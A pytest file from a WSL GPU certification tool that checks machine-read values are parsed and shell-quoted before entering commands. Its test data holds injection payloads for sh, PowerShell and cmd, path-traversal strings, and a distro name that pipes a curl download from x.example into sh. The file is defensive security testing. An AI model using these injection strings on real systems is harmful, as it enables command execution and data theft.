"""Values read from a machine never become code (issue 20, classes 1 and 9).

A value goes into a probe's command only parsed by its grammar (probes/arguments.py) and quoted for
the shell the command runs in (quoting.py); a fix command quotes every name it is filled with for
the shell its step names. Shown here with payload families per shell, through a real /bin/sh where
one can run (batched: one sh per family), and end to end through the Jupyter checks with a
container log that carries a command in its token, live (a recording executor around the real
/bin/sh -c) and in replay.
"""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import sys

import pytest

from suite_run import REPO, SNAPSHOTS
from wslgpu_certify.catalog import REGISTRY, fill_remediation, load_checks
from wslgpu_certify.findings import CheckFailed
from wslgpu_certify.hosts.executors import ReplayExecutor, local_shell
from wslgpu_certify.hosts.records import CommandRecord
from wslgpu_certify.hosts.runner import CommandRunner
from wslgpu_certify.hosts.testinfra_backend import make_host
from wslgpu_certify.placeholders import PLACEHOLDER, StandIn, fill_command
from wslgpu_certify.probes import arguments, containers, distro, windows
from wslgpu_certify.probes.arguments import BadArgument
from wslgpu_certify.probes.probe import Probe, command_for
from wslgpu_certify.parsers.apps import jupyter_token_name
from wslgpu_certify.profile import load_profile
from wslgpu_certify.redact import redact
from wslgpu_certify.quoting import Unquotable, cmd, powershell, powershell_in_double_quotes, sh, windows_either

load_checks(REPO / "checks")

# ---- payload families ----------------------------------------------------------------------------

SH_PAYLOADS = [
    "x';touch${IFS}PWNED;'", "a;touch PWNED", "a && touch PWNED", "a|touch PWNED", "$(touch PWNED)",
    "`touch PWNED`", "${IFS}touch${IFS}PWNED", "a'b\"c", "'", "\"", "*", "~root", "a b  c", "-rf",
    "a\\'b", "{a,b}", "!x", "a#b", "<PWNED", ">PWNED",
]
NEWLINE_PAYLOADS = ["a\ntouch PWNED", "a\rb", "a\x1b]0;x\x07", "a\x00b", "a\tb", "a\u2028b", "a\x85b"]
POWERSHELL_PAYLOADS = ["x'; calc; '", "$(calc)", "`$env:PATH", "a;b", "it\u2019s; calc", "'@", "a' + (calc) + 'b",
                       "$env:USERPROFILE", "@(1)"]
CMD_PAYLOADS = ["a & calc", "a | calc", "a ^& calc", "a > PWNED", "(calc)"]
CMD_UNQUOTABLE = ["%PATH%", "a\"&calc&\"", "!x!", "a%b"]


@pytest.fixture(scope="module")
def sh_echo(tmp_path_factory):
    """What one real /bin/sh prints for `printf '%s\\0' QUOTED` of each value, and whether anything else ran."""
    folder = tmp_path_factory.mktemp("sh")

    def echo(quoted: list[str]) -> list[str]:
        script = "".join(f"printf '%s\\0' {q}\n" for q in quoted)
        out = subprocess.run(["/bin/sh", "-c", script], cwd=folder, capture_output=True, check=True, timeout=20)
        assert not list(folder.iterdir()), f"a payload ran: {sorted(p.name for p in folder.iterdir())}"
        return out.stdout.decode("utf-8", "surrogateescape").split("\0")[:-1]

    return echo


# ---- quoting, shell by shell ----------------------------------------------------------------------

def test_sh_quoting_gives_each_payload_back_as_one_argument(sh_echo):
    assert sh_echo([sh(p) for p in SH_PAYLOADS]) == SH_PAYLOADS


def test_the_payloads_run_when_not_quoted(sh_echo, tmp_path):
    """The control: pasted raw (as the Jupyter probe did, inside '...'), the same family runs commands."""
    made = tmp_path / "ran"
    made.mkdir()
    script = "".join(f"printf '%s' '{p.replace('PWNED', 'ran1')}' >/dev/null\n" for p in SH_PAYLOADS[:1]) \
        + "".join(f"echo {p.replace('PWNED', f'ran{i}')} >/dev/null 2>&1\n" for i, p in enumerate(SH_PAYLOADS[1:6], 2))
    subprocess.run(["/bin/sh", "-c", script], cwd=made, capture_output=True, timeout=20)
    assert len(list(made.iterdir())) >= 5


@pytest.mark.parametrize("payload", NEWLINE_PAYLOADS)
def test_control_characters_are_refused_by_every_quoter(payload):
    for quoter in (sh, powershell, cmd, powershell_in_double_quotes, windows_either):
        with pytest.raises(Unquotable):
            quoter(payload)


def _powershell_single_quoted(text: str) -> str:
    """PowerShell's reading of a '...' literal (about_Quoting_Rules): '' is one quote; the typographic
    single quotes are quotes too."""
    quotes = "'\u2018\u2019\u201a\u201b"
    assert text[0] in quotes and text[-1] in quotes
    body, out, i = text[1:-1], [], 0
    while i < len(body):
        if body[i] in quotes:
            assert i + 1 < len(body) and body[i + 1] in quotes, f"a lone quote ends the string early in {text!r}"
            i += 1
        out.append(body[i])
        i += 1
    return "".join(out)


@pytest.mark.parametrize("payload", POWERSHELL_PAYLOADS + SH_PAYLOADS)
def test_powershell_quoting_is_one_literal(payload):
    quoted = powershell(payload)
    assert quoted == payload and re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9._:\\-]*", payload) \
        or _powershell_single_quoted(quoted) == payload


@pytest.mark.parametrize("payload", POWERSHELL_PAYLOADS + ["a\"b", "a%PATH%b", "a!b", "a\\b"])
def test_powershell_inside_the_sh_and_cmd_double_quotes_refuses_what_they_expand(payload):
    if re.search(r'["$`\\%!]', payload):
        with pytest.raises(Unquotable):
            powershell_in_double_quotes(payload)
    else:
        assert _powershell_single_quoted(powershell_in_double_quotes(payload)) == payload


def test_cmd_quoting():
    for payload in CMD_PAYLOADS:
        assert cmd(payload) == f'"{payload}"'  # inside "...", & | < > ^ ( ) are literal to cmd
    for payload in CMD_UNQUOTABLE:
        with pytest.raises(Unquotable):
            cmd(payload)
    assert cmd("Ubuntu-22.04") == "Ubuntu-22.04"


# ---- grammars ---------------------------------------------------------------------------------------

HEX_TOKEN = "0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6071"  # binascii.hexlify(os.urandom(24))
URL = "http://127.0.0.1:49153/api/status"
BAD_TOKENS = ["x';touch${IFS}PWNED;'", "a$(id)", "a`id`", "a;id", "a|id", "a&id", "a b", "a%20b", "a\nb",
              "<REDACTED>x", "", "a'b", "a\"b", "abc\u0660"]


def test_the_jupyter_url_grammar():
    assert arguments.JUPYTER_API_URL.parse(f"{URL}?token={HEX_TOKEN}") == f"{URL}?token={HEX_TOKEN}"
    assert arguments.JUPYTER_API_URL.parse(URL) == URL
    for token in BAD_TOKENS:
        with pytest.raises(BadArgument) as caught:
            arguments.JUPYTER_API_URL.parse(f"{URL}?token={token}", replaying=True)
        assert "\n" not in str(caught.value) and (not token or token not in str(caught.value))  # never quoted
    for url in ["http://evil.example:80/api/status", "http://127.0.0.1:8888/api/status;id", "file:///etc/passwd"]:
        with pytest.raises(BadArgument):
            arguments.JUPYTER_API_URL.parse(url)


def test_a_redacted_token_is_accepted_in_replay_only():
    masked = f"{URL}?token=<REDACTED>"
    assert arguments.JUPYTER_API_URL.parse(masked, replaying=True) == masked
    with pytest.raises(BadArgument):
        arguments.JUPYTER_API_URL.parse(masked)


@pytest.mark.parametrize("grammar, good, bad", [
    (arguments.DISTRO, ["Ubuntu", "Ubuntu-22.04", "ubuntu_gpu"], ["Ubuntu & curl x | sh &", "a;b", "$(id)", "a b", "a%b"]),
    (arguments.USER, ["analyst", "rstudio", "ana.b-c_d", "machine$"], ["x; rm -rf ~", "a\"b", "$(id)", "a b", "-x" * 20]),
    (arguments.IMAGE, ["tensorflow/tensorflow:latest-gpu-jupyter", "nvcr.io/nvidia/k8s/cuda-sample:nbody",
                       "localhost:5000/a/b:1.0", "rocker/ml@sha256:" + "a" * 64],
     ["a;id", "Upper/Case", "a b", "$(id)", "a:b:c", "--privileged"]),
    (arguments.APT_LIST, ["nvidia-container-toolkit.list", "nvidia-docker.list"], ["../../etc/shadow", "a;b", ".hidden", "a b"]),
    (arguments.WINDOWS_PATH, ["C:\\wslbackup\\ubuntu.tar", "D:\\a b\\c.tar"],
     ["C:\\a\" & calc & \"", "C:\\%USERPROFILE%\\x", "\\\\server\\share", "C:\\a\\", "C:\\a\\\\b", "relative.tar"]),
    (arguments.PORT, [8787, "49153"], [0, 70000, "80; id", "-1", True]),
])
def test_grammars(grammar, good, bad):
    for value in good:
        grammar.parse(value)
    for value in bad:
        with pytest.raises(BadArgument):
            grammar.parse(value)


# ---- every probe: each placeholder has a grammar; values are parsed, then quoted --------------------

CURL_FORMAT = {"http_code"}  # curl's own -w '%{http_code}', not a placeholder of ours
PROBES = [(module.__name__.rsplit(".", 1)[-1], name, value) for module in (containers, distro, windows)
          for name, value in vars(module).items() if isinstance(value, Probe)] \
    + [("windows", "dism_feature", windows.dism_feature("VirtualMachinePlatform"))]


@pytest.mark.parametrize("probe", [p for _, _, p in PROBES], ids=[f"{m}.{n}" for m, n, _ in PROBES])
def test_each_placeholder_of_a_probe_has_a_grammar(probe):
    placeholders = set(PLACEHOLDER.findall(probe.command)) - CURL_FORMAT
    assert placeholders == set(probe.args), "declare a grammar (probes/arguments.py) for every placeholder"


def test_a_value_without_a_grammar_is_a_programming_error():
    with pytest.raises(ValueError, match="declares no grammar"):
        command_for(distro.APT_LIST, {"name": "x.list", "extra": "y"})


def test_values_reach_the_command_quoted_or_not_at_all():
    assert command_for(distro.APT_LIST, {"name": "nvidia-docker.list"}) == "cat /etc/apt/sources.list.d/nvidia-docker.list"
    assert command_for(windows.DISTRO_DEFAULT_USER, {"distro": "Ubuntu-22.04"}) == "wsl.exe -d Ubuntu-22.04 -- id -un"
    assert 'spwd.getspnam("rstudio")' in command_for(containers.RSTUDIO_PASSWORD, {"user": "rstudio"})
    assert command_for(windows.EXPORT_FILE, {"path": "C:\\wslbackup\\ubuntu.tar"}) == \
        'cmd.exe /c if exist "C:\\wslbackup\\ubuntu.tar" (echo present) else (echo missing)'
    for probe, name, payloads in [(distro.APT_LIST, "name", SH_PAYLOADS), (windows.FRESH_LOGIN_DOCKER, "distro", SH_PAYLOADS),
                                  (distro.NBODY, "image", SH_PAYLOADS), (containers.RSTUDIO_PASSWORD, "user", SH_PAYLOADS),
                                  (containers.RSTUDIO_HTTP, "port", ["80;id", "8787\nEOF\nid"]),
                                  (windows.EXPORT_FILE, "path", CMD_UNQUOTABLE + CMD_PAYLOADS)]:
        for payload in payloads:
            with pytest.raises(BadArgument):
                command_for(probe, {name: payload})


# ---- end to end: the Jupyter checks with a container log that carries a command -------------------

START = json.loads((SNAPSHOTS / "current-healthy.json").read_text())["hosts"]["docker"]["start tensorflow"]


def _log(token: str) -> str:
    return ("[I 2024-12-10 09:31:12.426 ServerApp] Jupyter Server 2.14.2 is running at:\n"
            f"[I 2024-12-10 09:31:12.426 ServerApp] http://127.0.0.1:8888/tree?token={token}\n")


@pytest.fixture(autouse=True)
def _own_secrets(monkeypatch):
    """The process-wide redactor's learnt and literal secrets, fresh for each test and restored after it."""
    monkeypatch.setattr(redact, "_learnt", {})
    monkeypatch.setattr(redact, "_literals", set())


def _docker_host(token: str):
    # As the live container executor does when it reads the raw log (containers/executors.py, on_secret):
    # the token is learnt by name before the log, redacted at the runner's door, reaches the check.
    redact.learn(jupyter_token_name("tensorflow"), token)
    records = {"start tensorflow": CommandRecord("start tensorflow", **{**START, "stdout": START["stdout"]}),
               "logs tensorflow": CommandRecord("logs tensorflow", 0, _log(token), "", 0.1)}
    return make_host(CommandRunner("docker", ReplayExecutor("docker", records), timeout=5))


class Recording:
    """An executor that keeps the command strings it was handed before passing them on (or answering)."""

    def __init__(self, inner=None, answer: str = "200"):
        self.inner, self.answer, self.commands = inner, answer, []

    def __call__(self, command: str, timeout: float) -> CommandRecord:
        self.commands.append(command)
        return self.inner(command, timeout) if self.inner else CommandRecord(command, 0, self.answer, "", 0.0)


@pytest.fixture
def fake_curl(tmp_path, monkeypatch):
    """`curl` first on PATH, answering 200 and recording its argv: the live /bin/sh -c path without a network."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    argv_log = tmp_path / "curl-argv.json"
    (bin_dir / "curl").write_text(f"#!{sys.executable}\nimport json, sys\n"
                                  f"json.dump(sys.argv[1:], open({str(argv_log)!r}, 'w'))\nprint('200', end='')\n")
    (bin_dir / "curl").chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:/usr/bin:/bin")
    return argv_log


def _check(check_id: str):
    return REGISTRY[check_id].func


HOSTILE_TOKENS = ["x';touch${{IFS}}{m};'", "x'$(touch {m})'", "x';touch {m} #", "x`touch {m}`", "x'|touch {m}|'",
                  "x'&&touch {m}&&'", "x'\ntouch {m}\n'"]


def test_a_hostile_token_never_reaches_the_shell_live(tmp_path, fake_curl):
    profile = load_profile("current")
    marker = tmp_path / "PWNED"
    for template in HOSTILE_TOKENS:
        token = template.format(m=marker)
        shell = Recording(local_shell())
        wsl_host = make_host(CommandRunner("wsl", shell, timeout=20))
        with pytest.raises(CheckFailed) as caught:
            _check("jupyter.server.token")(wsl_host, _docker_host(token), profile)
        message = str(caught.value)
        assert "was not run" in message and "\n" not in message and token not in message
        assert shell.commands == [] and not marker.exists()
    # the control: a real token goes through the same /bin/sh -c as one quoted argument, and the check passes
    shell = Recording(local_shell())
    _check("jupyter.server.token")(make_host(CommandRunner("wsl", shell, timeout=20)), _docker_host(HEX_TOKEN), profile)
    assert shell.commands == [f"curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 '{URL}?token={HEX_TOKEN}'"]
    assert json.loads(fake_curl.read_text())[-1] == f"{URL}?token={HEX_TOKEN}"


def test_a_hostile_token_never_reaches_powershell():
    profile = load_profile("current")
    for template in HOSTILE_TOKENS + ["x'; Start-Process calc; '", "x$(calc)", "x`calc"]:
        windows_side = Recording()
        with pytest.raises(CheckFailed, match="was not run"):
            _check("jupyter.server.windows_localhost")(make_host(CommandRunner("windows", windows_side, timeout=5)),
                                                       _docker_host(template.format(m="PWNED")), profile)
        assert windows_side.commands == []
    windows_side = Recording()
    _check("jupyter.server.windows_localhost")(make_host(CommandRunner("windows", windows_side, timeout=5)),
                                               _docker_host(HEX_TOKEN), profile)
    assert f"-Uri 'http://localhost:49153/api/status?token={HEX_TOKEN}'" in windows_side.commands[0]


def test_replay_refuses_a_hostile_token_and_still_replays_a_redacted_one():
    profile = load_profile("current")
    recorded = json.loads((SNAPSHOTS / "current-healthy.json").read_text())["hosts"]["wsl"]
    wsl_records = {c: CommandRecord.from_json(c, r) for c, r in recorded.items() if "api/status" in c}

    def wsl_host():
        return make_host(CommandRunner("wsl", ReplayExecutor("wsl", wsl_records), timeout=5))

    _check("jupyter.server.token")(wsl_host(), _docker_host("<REDACTED>"), profile)  # the fixtures' form
    _check("jupyter.server.refuses_without_token")(wsl_host(), _docker_host("<REDACTED>"), profile)
    for template in HOSTILE_TOKENS:
        with pytest.raises(CheckFailed, match="was not run"):
            _check("jupyter.server.token")(wsl_host(), _docker_host(template.format(m="PWNED")), profile)
    # live, the same <REDACTED> is no token Jupyter prints
    with pytest.raises(CheckFailed, match="was not run"):
        _check("jupyter.server.token")(make_host(CommandRunner("wsl", Recording(), timeout=5)),
                                       _docker_host("<REDACTED>"), profile)


# ---- class 9: names in printed fixes ------------------------------------------------------------------

HOSTILE_NAMES = ["Ubuntu & curl https://x.example/a | sh &", "Ub;touch PWNED", "$(touch PWNED)", "`id`",
                 "a'b", "x\" & calc & \"", "%COMSPEC%", "it\u2019s; calc", "a|b", "Ubuntu\ncalc"]
MARK = "WSLGPUPLACEHOLDER"


def _filled_steps(values: dict):
    """(check id, the step filled with a plain MARK for each hostile value, the step filled with `values`)."""
    for spec in sorted(REGISTRY.values(), key=lambda s: s.id):
        for rem in (spec.remediation, *spec.variants.values()):
            marked = fill_remediation(rem, {**{k: MARK for k in values}, **spec.params}).steps
            for plain, step in zip(marked, fill_remediation(rem, {**values, **spec.params}).steps):
                if step.is_command and MARK in plain.text:
                    yield spec.id, plain, step


def test_every_fix_command_holds_a_hostile_name_as_one_quoted_argument():
    """Filled with a hostile name, each fix command is the command filled with a plain word, that word
    replaced by the name quoted for the step's shell (or by its <NAME> where that shell cannot quote it)."""
    checked = 0
    for name in HOSTILE_NAMES:
        values = {"distro": name, "user": name, "image": name, "feature": name, "library": name,
                  "reticulate_python": name, **{f"{r}_image": name for r in ("nbody", "tensorflow", "rstudio")}}
        for check_id, marked, step in _filled_steps(values):
            checked += 1
            assert "\n" not in step.text, (check_id, step.text)
            quoter = {"bash": sh, "cmd": cmd, "powershell": powershell}.get(step.shell)
            try:
                quoted = quoter(name) if quoter else None
            except Unquotable:
                quoted = None
            if quoted is not None:
                assert step.text == marked.text.replace(MARK, quoted), (check_id, step.text)
            else:  # r, dockerfile, or a name the shell cannot quote: the name is left out
                assert name not in step.text and re.search(r"<[A-Z_]+>", step.text), (check_id, step.text)
    assert checked > 100


def _placeholders_inside_quotes(text: str, shell: str) -> list[str]:
    """Placeholders a template puts inside '...' or "..." of its own (where a quoted value would not be one
    argument, and inside bash's "..." a $(...) in the value would run); $(...) opens a fresh context in bash."""
    stack, found, i = [None], [], 0
    while i < len(text):
        c, top = text[i], stack[-1]
        match = PLACEHOLDER.match(text, i)
        if match and top in ("'", '"'):
            found.append(match.group(1))
        if top == "'" and shell == "bash":
            stack.pop() if c == "'" else None
        elif c == "\\" and shell == "bash":
            i += 1
        elif c == top and c in "'\"":
            stack.pop()
        elif shell == "bash" and text.startswith("$(", i):
            stack.append("$(")
            i += 1
        elif c == ")" and top == "$(":
            stack.pop()
        elif c == '"' or (c == "'" and top != '"' and shell in ("bash", "powershell")):
            stack.append(c)
        i += 1
    return found


def test_no_fix_template_puts_a_placeholder_inside_quotes_of_its_own():
    from wslgpu_certify.signatures.catalog import load_catalog

    steps = [(spec.id, step.text, step.shell) for spec in REGISTRY.values()
             for rem in (spec.remediation, *spec.variants.values()) for step in rem.steps]
    steps += [(sig.id, step.run, step.shell or "bash") for sig in load_catalog() for step in sig.fix if step.run]
    assert len(steps) > 300
    inside = [(where, text) for where, text, shell in steps
              if shell in ("bash", "cmd", "powershell") and _placeholders_inside_quotes(text, shell)]
    assert inside == []
    # the helper can fail: each shell's own quotes
    assert _placeholders_inside_quotes('echo "{distro}"', "bash") == ["distro"]
    assert _placeholders_inside_quotes("echo '{distro}'", "bash") == ["distro"]
    assert _placeholders_inside_quotes('echo "$(dpkg -S {library})"', "bash") == []
    assert _placeholders_inside_quotes('wsl -d "{distro}"', "cmd") == ["distro"]
    assert _placeholders_inside_quotes("wsl -d '{distro}'", "powershell") == ["distro"]


def test_a_plain_name_stays_bare_and_our_stand_ins_stay_as_written():
    assert fill_command("wslgpu-certify --env=windows --distro {distro}", {"distro": "Ubuntu-22.04"}, "cmd") == \
        "wslgpu-certify --env=windows --distro Ubuntu-22.04"
    assert fill_command("sudo usermod -a -G docker {user}", {"user": StandIn("<USER_NAME>")}, "bash") == \
        "sudo usermod -a -G docker <USER_NAME>"
    assert fill_command("wslgpu-certify --env=windows --distro {distro}", {"distro": HOSTILE_NAMES[0]}, "cmd") == \
        'wslgpu-certify --env=windows --distro "Ubuntu & curl https://x.example/a | sh &"'
    assert fill_command("wsl --manage {distro} --set-sparse false", {"distro": "a'b; calc"}, "powershell") == \
        "wsl --manage 'a''b; calc' --set-sparse false"


def test_diagnose_quotes_a_distro_name_from_a_paste():
    from wslgpu_certify.diagnose.diagnosis import diagnose

    profile = load_profile("current")
    for name in ["Ub;touch${IFS}PWNED", "Ub|sh", "Ub$(id)", "Ub`id`"]:
        paste = f"bob@box:~$ wsl.exe -l -v\n  NAME STATE VERSION\n* {name} Running 1\n"
        finding = next(f for f in diagnose(paste, profile).findings if f.check_id == "windows.distro.version")
        commands = [step for step in finding.fix if step.shell]
        assert commands and all(name not in step.text or shlex.quote(name) in step.text
                                if step.shell == "bash" else name not in step.text or f'"{name}"' in step.text
                                for step in commands), [s.text for s in commands]
        assert any(shlex.quote(name) in s.text or f'"{name}"' in s.text for s in commands)


def test_a_hostile_distro_name_is_printed_quoted_by_the_suite(certify, tmp_path):
    """The issue's case through the CLI: a recorded distro name that is a command line."""
    name = "Ubuntu & curl https://x.example/a | sh &"
    path = tmp_path / "hostile-distro.json"
    path.write_text(json.dumps({"format": "wslgpu-certify-snapshot/1", "extends": str(SNAPSHOTS / "documented-healthy.json"),
                                "metadata": {"distro": name, "user": None}}))
    run = certify("--snapshot", str(path), "--check", "windows.distro")
    finding = run.check("windows.distro.installed")
    assert finding["outcome"] == "failed"
    commands = finding["remediation"]["commands"]
    assert f'wslgpu-certify --env=windows --distro "{name}"' in commands, commands
    for text in (run.output, json.dumps(commands)):
        assert f"--distro {name}" not in text and f"-d {name}" not in text


def test_a_start_record_port_is_host_colon_digits_or_the_record_is_unreadable():
    from wslgpu_certify.parsers.containers import parse_start_record
    from wslgpu_certify.parsers.errors import UnreadableOutput

    base = json.loads(START["stdout"])
    assert parse_start_record(json.dumps(base)).host_port(8888) == 49153
    for ports in [{"8888/tcp": "127.0.0.1:abc"}, {"8888/tcp": "127.0.0.1:1';id;'"}, {"8888/tcp": 49153},
                  ["8888/tcp"], {"8888/tcp": "127.0.0.1:$(id)"}, {"8888/tcp": "a b:1"}]:
        with pytest.raises(UnreadableOutput):
            parse_start_record(json.dumps({**base, "ports": ports}))
    for text in ["[" * 100_000, '{"role": ' + "9" * 5000 + "}", "null", '"x"']:
        with pytest.raises(UnreadableOutput):
            parse_start_record(text)
